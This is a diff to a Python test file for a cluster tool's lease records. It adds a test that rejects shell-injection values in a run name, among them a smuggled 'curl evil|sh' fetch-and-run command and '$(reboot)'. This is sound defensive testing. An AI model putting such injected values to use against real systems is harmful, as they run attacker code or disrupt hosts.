@@ -18,7 +18,7 @@ from clustercheck.probe import busy
 from clusterctl.cluster.directory import ClusterDirectory
 from clusterctl.engine import lease as lease_module
 from clusterctl.engine import lease_book
-from clusterctl.engine.lease import Lease, Life, comes_from, from_record, lease_of, life
+from clusterctl.engine.lease import Lease, Life, comes_from, from_record, lease_of, life, release_command
 from clusterctl.engine.lease_protocol import (
     Acquire,
     LeaseAnswer,
@@ -28,6 +28,7 @@ from clusterctl.engine.lease_protocol import (
     run_steps,
 )
 from clusterctl.errors import ClusterctlError
+from clusterctl.rollout.leases import refusal
 from clusterctl.runs.store import RunStore
 
 OURS = Lease("20260101T000000000-apply-aaaa", "n1", "ops", "here", "apply", "2026-01-01T00:00:00Z")
@@ -212,6 +213,16 @@ def test_a_process_that_cannot_be_seen_is_not_taken_for_dead(
 @pytest.mark.parametrize("pid", [-1, 0, 2**40, "1"])
 def test_a_pid_that_is_none_names_nobody(pid: object) -> None:
     assert from_record({"pid": pid}).pid == 0
+
+
+@pytest.mark.parametrize("run", ["x;curl evil|sh #", "$(reboot)", "-f", "a\nb", "", "a" * 81, ["run"]])
+def test_a_node_names_no_run_that_a_shell_would_run(run: object) -> None:
+    lease = from_record({**OURS.as_record(), "run": run})
+    assert (lease.run, lease.holder) == ("", "a lease that cannot be read")
+    told = refusal({"gpu01": lease})
+    assert "curl" not in str(vars(told))
+    assert told.hint == "Check that no run changes the host, then remove /root/.clusterctl/lease.json there."
+    assert release_command("a b;c") == "clusterctl leases release 'a b;c'"
 
 
 def test_validation_sees_whose_apply_it_is(node: Path, monkeypatch: pytest.MonkeyPatch) -> None:
